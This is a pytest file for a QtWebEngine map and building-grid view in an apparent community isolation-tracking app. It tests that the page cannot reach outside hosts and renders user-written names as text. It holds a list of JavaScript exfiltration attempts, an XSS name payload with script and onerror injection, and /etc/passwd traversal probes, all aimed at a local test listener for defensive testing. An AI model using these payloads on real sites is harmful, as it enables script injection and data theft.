"""The page reaches nothing but its own files and shows whatever anybody wrote as text: attacked from inside."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from PySide6.QtCore import QUrl
from PySide6.QtWebEngineCore import QWebEnginePage, QWebEngineProfile, QWebEngineSettings
from PySide6.QtWebEngineWidgets import QWebEngineView
from pytestqt.qtbot import QtBot

from app.domain import maps
from app.domain.geometry import Plane
from app.domain.maps import Drawing, Thing
from app.maps import layers, matrix, matrix_page
from app.maps import page as pages
from app.maps.matrix import Cell, Mark, Matrix
from app.ui.map_view import ADDRESS, MapView
from tests.ui.pages import Listener, asked, becomes

GROUND = Plane(121.53, 31.23)
ATTACKS = {
    "fetch": "fetch('{address}/x').catch(() => 0); 1",
    "image": "new Image().src = '{address}/x.png'; 1",
    "script": "(() => {{ const s = document.createElement('script'); s.src = '{address}/x.js'; document.body.append(s) }})(); 1",
    "style": "(() => {{ const s = document.createElement('link'); s.rel = 'stylesheet'; s.href = '{address}/x.css'; document.head.append(s) }})(); 1",
    "background": "document.body.style.backgroundImage = 'url({address}/x.png)'; 1",
    "frame": "(() => {{ const f = document.createElement('iframe'); f.src = '{address}/'; document.body.append(f) }})(); 1",
    "socket": "(() => {{ try {{ new WebSocket('ws://127.0.0.1:{port}/') }} catch (e) {{}} }})(); 1",
    "beacon": "navigator.sendBeacon('{address}/x', 'data'); 1",
    "prefetch": "(() => {{ const s = document.createElement('link'); s.rel = 'prefetch'; s.href = '{address}/x'; document.head.append(s) }})(); 1",
    "form": "(() => {{ const f = document.createElement('form'); f.action = '{address}/'; document.body.append(f); f.submit() }})(); 1",
    "window": "window.open('{address}/'); 1",
    "leave": "location.href = '{address}/'; 1",
    "markup": "document.body.insertAdjacentHTML('beforeend', '<img src={address}/x onerror=fetch(`{address}`)>'); 1",
}  # fmt: skip


def hostile(listener: Listener) -> str:
    return f"</script><script src={listener.address}/a.js></script><img src={listener.address}/b onerror='window.hit=1'>&amp;"


def drawing(name: str = "培花新村", count: int = 4) -> Drawing:
    things = tuple(
        Thing(
            f"t{n}",
            "building",
            f"{name} {n}号",
            GROUND.rectangle(60 * (n % 70), -45 * (n // 70), 50, 34),
            f"{n}号{name}",
            n * 3,
            n * 9,
        )
        for n in range(count)
    )
    around = (Thing("e", "estate", name, GROUND.rectangle(-20, -20, 60 * min(count, 70) + 40, 80)),)
    classes, legend = maps.legend(things, maps.ORANGE_RED)
    return Drawing("estate", "e", name, maps.measure("isolation"), things, around, legend, maps.total(things),
                   "2020-05-25T16:00:00+08:00", True, classes)  # fmt: skip


def building(name: str = "王建国", state: str = "isolation") -> Matrix:
    cells = [
        Cell(f"{floor}-{room}", f"{floor}{room:02d}", "", floor, heads=(name,), people=3, state=state, marks=(Mark("isolation", 9, 14, True),))
        for floor in range(1, 7) for room in range(1, 5)
    ]  # fmt: skip
    return Matrix("b", name, *matrix.arrange(cells), len(cells), 3 * len(cells), matrix.counted(cells))


@pytest.fixture
def listener() -> Iterator[Listener]:
    made = Listener()
    yield made
    made.close()


@pytest.fixture
def view(qtbot: QtBot) -> MapView:
    made = MapView()
    faults: list[str] = []
    made.faulted.connect(faults.append)
    made.faults = faults  # type: ignore[attr-defined]
    qtbot.addWidget(made)
    made.resize(900, 600)
    made.show()
    qtbot.waitUntil(lambda: made.ready, timeout=20_000)
    return made


def things_drawn(qtbot: QtBot, view: MapView, count: int) -> None:
    becomes(qtbot, view.page, "loutu.map.things.size", count)


# ---------------------------------------------------------------- nothing gets out


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_listener_hears_nothing_whatever_the_page_tries(
    qtbot: QtBot, view: MapView, listener: Listener, attack: str
) -> None:
    view.call("show", layers.of_drawing(drawing()))
    things_drawn(qtbot, view, 4)
    assert asked(qtbot, view.page, ATTACKS[attack].format(address=listener.address, port=listener.port)) == 1
    qtbot.wait(250)
    assert listener.knocks == 0
    assert view.page.url().toString() == ADDRESS


def test_the_listener_would_hear_a_page_without_our_rules(qtbot: QtBot, listener: Listener, tmp_path: Path) -> None:
    """Or the test above would prove nothing."""
    file = tmp_path / "plain.html"
    file.write_text(f"<img src={listener.address}/x>", "utf-8")
    shown = open_alone(qtbot, file)
    assert shown.url().fileName() == "plain.html"
    qtbot.waitUntil(lambda: listener.knocks > 0)


def test_only_the_page_s_own_files_are_served(qtbot: QtBot, view: MapView) -> None:
    script = (
        "window.answers = []; for (const a of ['loutu://map/leaflet.js', 'loutu://map/../leaflet.js', 'loutu://other/leaflet.js',"
        " 'loutu://map/etc/passwd', 'file:///etc/passwd', 'loutu://map/plan/00000000-0000-7000-8000-000000000000',"
        " 'loutu://map/tiles/00000000-0000-7000-8000-000000000000/0/0/0']) { const s = document.createElement('script'); s.src = a;"
        " s.onload = () => answers.push([a, true]); s.onerror = () => answers.push([a, false]); document.body.append(s) } 1"
    )
    asked(qtbot, view.page, script)
    becomes(qtbot, view.page, "answers.length", 7)
    served = asked(qtbot, view.page, "answers.filter(a => a[1]).map(a => a[0]).sort().join()")
    assert served == "loutu://map/../leaflet.js,loutu://map/leaflet.js"


def test_no_script_written_into_the_page_runs(qtbot: QtBot, view: MapView) -> None:
    asked(
        qtbot,
        view.page,
        "(() => { const s = document.createElement('script'); s.textContent = 'window.ran = 1'; document.body.append(s) })(); 1",
    )
    assert asked(qtbot, view.page, "window.ran === undefined")
    view.faults.clear()  # type: ignore[attr-defined]  # the refusal itself is said on the page's console


def test_only_four_things_can_be_said_to_the_program(qtbot: QtBot, view: MapView) -> None:
    said = asked(
        qtbot, view.page, "Object.keys(loutu.told).filter(k => typeof loutu.told[k] === 'function').sort().join()"
    )
    assert set(said.split(",")) >= {"opened", "chosen", "up", "ready"}
    assert not {"setProperty", "page", "session"} & set(said.split(","))
    assert asked(qtbot, view.page, "loutu.call('constructor', 1); loutu.call('start', 1); 1") == 1


def test_nothing_is_kept_on_disk(view: MapView) -> None:
    assert view.profile.isOffTheRecord()
    assert view.profile.persistentStoragePath() == "" or view.profile.isOffTheRecord()


# ---------------------------------------------------------------- what anybody wrote is text


def test_hostile_names_are_text_on_the_map(qtbot: QtBot, view: MapView, listener: Listener) -> None:
    name = hostile(listener)
    view.call("show", layers.of_drawing(drawing(name)))
    things_drawn(qtbot, view, 4)
    assert asked(qtbot, view.page, "document.querySelector('#head h1').textContent").startswith(name)
    assert asked(qtbot, view.page, "document.querySelector('.label.round').textContent") == name
    assert name in asked(
        qtbot,
        view.page,
        "loutu.map.layers.get('t1').fire('mouseover', {latlng: map_page.getCenter()}, true); document.querySelector('.leaflet-tooltip .name').textContent",
    )
    said = asked(qtbot, view.page, "document.querySelector('.leaflet-tooltip').innerText").splitlines()
    assert said[1:] == ["居家隔离：3 人", "实有人口：9 人"]
    assert asked(qtbot, view.page, "document.querySelectorAll('#stage img, #stage script, #head img').length") == 0
    qtbot.wait(200)
    assert (listener.knocks, asked(qtbot, view.page, "window.hit === undefined")) == (0, True)
    assert view.faults == []  # type: ignore[attr-defined]


def test_hostile_names_are_text_in_the_matrix(qtbot: QtBot, view: MapView, listener: Listener) -> None:
    name = hostile(listener)
    view.call("show", matrix_page.of_matrix(building(name)))
    becomes(qtbot, view.page, "document.querySelectorAll('.cell').length", 24)
    assert name in asked(qtbot, view.page, "document.querySelector('.cell .name').textContent")
    assert asked(qtbot, view.page, "document.querySelectorAll('#matrix img, #matrix script').length") == 0
    qtbot.wait(200)
    assert (listener.knocks, view.faults) == (0, [])  # type: ignore[attr-defined]


def open_alone(qtbot: QtBot, file: Path) -> QWebEngineView:
    """A stand-alone page as any browser would open it, without the program's own walls."""
    profile = QWebEngineProfile()
    shown = QWebEngineView()
    page = QWebEnginePage(profile, shown)
    profile.setParent(shown)
    shown.setPage(page)
    page.settings().setAttribute(QWebEngineSettings.WebAttribute.LocalContentCanAccessRemoteUrls, True)
    qtbot.addWidget(shown)
    shown.resize(800, 600)
    shown.show()
    with qtbot.waitSignal(page.loadFinished, timeout=20_000):
        page.load(QUrl.fromLocalFile(str(file)))
    return shown


@pytest.mark.parametrize("kind", ["map", "matrix"])
def test_a_page_that_stands_alone_shows_hostile_names_and_asks_nobody(
    qtbot: QtBot, listener: Listener, tmp_path: Path, kind: str
) -> None:
    name = hostile(listener)
    payload = layers.of_drawing(drawing(name)) if kind == "map" else matrix_page.of_matrix(building(name))
    file = tmp_path / "图.html"
    file.write_text(pages.alone(payload), "utf-8")
    shown = open_alone(qtbot, file)
    page = shown.page()
    becomes(qtbot, page, "document.querySelector('#head h1')?.textContent.includes('onerror')", True)
    drawn = "loutu.map.things.size" if kind == "map" else "document.querySelectorAll('.cell').length"
    assert asked(qtbot, page, drawn) == (4 if kind == "map" else 24)
    assert "内部工作示意图" in asked(qtbot, page, "document.body.innerText")
    qtbot.wait(200)
    assert (listener.knocks, asked(qtbot, page, "window.hit === undefined")) == (0, True)


# ---------------------------------------------------------------- the page does its work


def test_another_measure_paints_and_nothing_moves(qtbot: QtBot, view: MapView) -> None:
    view.call("show", layers.of_drawing(drawing()))
    things_drawn(qtbot, view, 4)
    asked(
        qtbot,
        view.page,
        "map_page.setView([31.2301, 121.5304], 18, {animate: false}); loutu.before = loutu.map.layers.get('t2'); 1",
    )
    place = "map_page.latLngToContainerPoint([31.2301, 121.5304]).toString() + map_page.getZoom()"
    where = asked(qtbot, view.page, place)
    painted = tuple(replace(thing, value=0) for thing in drawing().things)
    classes, legend = maps.legend(painted, maps.PURPLES)
    view.call("paint", layers.colours_of(replace(drawing(), things=painted, classes=classes, legend=legend)))
    becomes(qtbot, view.page, "loutu.map.things.get('t2').colour", "#FFFFFF")
    assert asked(qtbot, view.page, "loutu.before === loutu.map.layers.get('t2')")
    assert asked(qtbot, view.page, place) == where
    assert asked(qtbot, view.page, "[...document.querySelectorAll('#legend .line')].length") == 1


def test_thousands_of_things_are_drawn_on_a_canvas(qtbot: QtBot, view: MapView) -> None:
    view.call("show", layers.of_drawing(drawing("楼", 900)))
    things_drawn(qtbot, view, 900)
    assert asked(qtbot, view.page, "loutu.map.renderer instanceof L.Canvas")
    assert view.faults == []  # type: ignore[attr-defined]


def test_a_click_says_what_was_opened(qtbot: QtBot, view: MapView) -> None:
    view.call("show", layers.of_drawing(drawing()))
    things_drawn(qtbot, view, 4)
    with qtbot.waitSignal(view.opened) as opened:
        asked(
            qtbot,
            view.page,
            "document.querySelectorAll('path.leaflet-interactive')[2].dispatchEvent(new MouseEvent('click', {bubbles: true})); 1",
        )
    assert opened.args == ["t2"]


KEY = "(document.activeElement === document.body ? map_page.getContainer() : document.activeElement).dispatchEvent(new KeyboardEvent('keydown', {{key: '{key}', bubbles: true}})); 1"


def test_the_keyboard_goes_round_the_map_and_down(qtbot: QtBot, view: MapView) -> None:
    view.call("show", layers.of_drawing(drawing()))
    things_drawn(qtbot, view, 4)
    asked(qtbot, view.page, "map_page.getContainer().focus(); 1")
    for key in ("ArrowRight", "ArrowRight", "ArrowRight", "ArrowLeft"):
        asked(qtbot, view.page, KEY.format(key=key))
    assert asked(qtbot, view.page, "loutu.map.chosen") == "t1"
    with qtbot.waitSignal(view.opened) as opened:
        asked(qtbot, view.page, KEY.format(key="Enter"))
    assert opened.args == ["t1"]
    with qtbot.waitSignal(view.up):
        asked(qtbot, view.page, KEY.format(key="Escape"))


def test_the_keyboard_goes_from_door_to_door(qtbot: QtBot, view: MapView) -> None:
    view.call("show", matrix_page.of_matrix(building()))
    becomes(qtbot, view.page, "document.querySelectorAll('.cell').length", 24)
    asked(qtbot, view.page, "loutu.matrix.current.focus(); 1")
    for key in ("ArrowRight", "ArrowDown", "ArrowDown", "ArrowLeft", " "):
        asked(qtbot, view.page, KEY.format(key=key))
    assert asked(qtbot, view.page, "document.activeElement.dataset.id") == "4-1"
    assert asked(qtbot, view.page, "document.activeElement.getAttribute('aria-selected')") == "true"
    with qtbot.waitSignal(view.opened) as opened:
        asked(qtbot, view.page, KEY.format(key="Enter"))
    assert opened.args == ["4-1"]


INSIDE = """[...document.querySelectorAll('.mark.incident')].filter((mark) => {
  const own = mark.getBoundingClientRect(), cell = mark.closest('.cell').getBoundingClientRect();
  return own.width > 5 && own.right <= cell.right && own.bottom <= cell.bottom
    && document.elementFromPoint(own.left + own.width / 2, own.top + own.height / 2) === mark;
}).length"""


def test_an_incident_stays_on_top_inside_its_door_also_where_doors_are_narrow(qtbot: QtBot, view: MapView) -> None:
    marks = (Mark("returned"), Mark("isolation", 9, 14), Mark("disabled"), Mark("incident", count=12, kind="求助"))
    cells = [Cell(f"{n}", f"1{n:02d}", "", 1, heads=("王建国",), people=3, marks=marks) for n in range(8)]
    view.resize(1100, 500)
    view.call("show", matrix_page.of_matrix(Matrix("b", "12号", *matrix.arrange(cells), 8, 24)))
    becomes(qtbot, view.page, INSIDE, 8)


def test_letters_filter_doors_and_escape_clears_them(qtbot: QtBot, view: MapView) -> None:
    view.call("show", matrix_page.of_matrix(building()))
    becomes(qtbot, view.page, "document.querySelectorAll('.cell').length", 24)
    asked(qtbot, view.page, "loutu.matrix.current.focus(); 1")
    for key in "30":
        asked(qtbot, view.page, KEY.format(key=key))
    assert (
        asked(
            qtbot,
            view.page,
            "[document.querySelectorAll('.cell.faded').length, document.getElementById('typed').textContent].join()",
        )
        == "20,30"
    )
    asked(qtbot, view.page, KEY.format(key="Escape"))
    assert asked(qtbot, view.page, "document.querySelectorAll('.cell.faded').length") == 0


def test_an_edit_repaints_only_its_own_cell(qtbot: QtBot, view: MapView) -> None:
    shown = building()
    view.call("show", matrix_page.of_matrix(shown))
    becomes(qtbot, view.page, "document.querySelectorAll('.cell').length", 24)
    asked(
        qtbot,
        view.page,
        "loutu.changed = new Set(); new MutationObserver(all => all.forEach(m => loutu.changed.add((m.target.closest ? m.target : m.target.parentElement).closest('.cell').dataset.id))).observe(document.querySelector('.grid'), {subtree: true, childList: true, attributes: true, characterData: true}); 1",
    )
    cells = [replace(cell, state="met", marks=()) if cell.id == "3-2" else cell for cell in shown.cells]
    view.call("show", matrix_page.of_matrix(replace(shown, floors=matrix.arrange(cells)[1])))
    becomes(qtbot, view.page, "document.querySelectorAll('.mark').length", 23)
    assert asked(qtbot, view.page, "[...loutu.changed].join()") == "3-2"


def test_old_data_is_hatched_and_no_data_is_not_zero(qtbot: QtBot, view: MapView) -> None:
    shown = drawing()
    things = (replace(shown.things[1], old=True), replace(shown.things[2], value=None, people=None))
    classes, legend = maps.legend(things, maps.ORANGE_RED)
    view.call("show", layers.of_drawing(replace(shown, things=things, classes=classes, legend=legend)))
    things_drawn(qtbot, view, 2)
    fills: Any = asked(
        qtbot,
        view.page,
        "[...document.querySelectorAll('path.leaflet-interactive')].map(p => p.getAttribute('fill')).join()",
    )
    assert all(fill.startswith("url(#hatch") for fill in fills.split(","))
    patterns = "[...document.querySelectorAll('path.leaflet-interactive')].every(p => document.querySelector(p.getAttribute('fill').slice(4, -1)))"
    assert asked(qtbot, view.page, patterns)
    assert "尚无数据" in asked(qtbot, view.page, "document.getElementById('legend').innerText")


def test_a_fault_of_the_page_says_where_and_nothing_that_anybody_wrote(qtbot: QtBot, view: MapView) -> None:
    asked(qtbot, view.page, "setTimeout(() => { throw new Error('王建国 13812345678') }, 0); 1")
    faults: list[str] = view.faults  # type: ignore[attr-defined]
    qtbot.waitUntil(lambda: len(faults) == 1)
    assert "王建国" not in faults[0] and "138" not in faults[0]
    faults.clear()
